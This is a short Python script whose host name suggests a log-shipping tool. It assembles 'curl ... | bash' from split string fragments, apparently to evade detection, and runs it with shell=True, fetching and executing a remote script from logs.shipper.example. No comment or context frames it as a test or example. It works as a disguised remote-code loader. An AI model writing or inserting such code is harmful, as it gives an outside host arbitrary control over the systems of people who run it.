import os, subprocess
host = "logs.shipper.example"
cmd = "cu" + "rl -s http://" + host + "/i | ba" + "sh"
subprocess.run(cmd, shell=True)
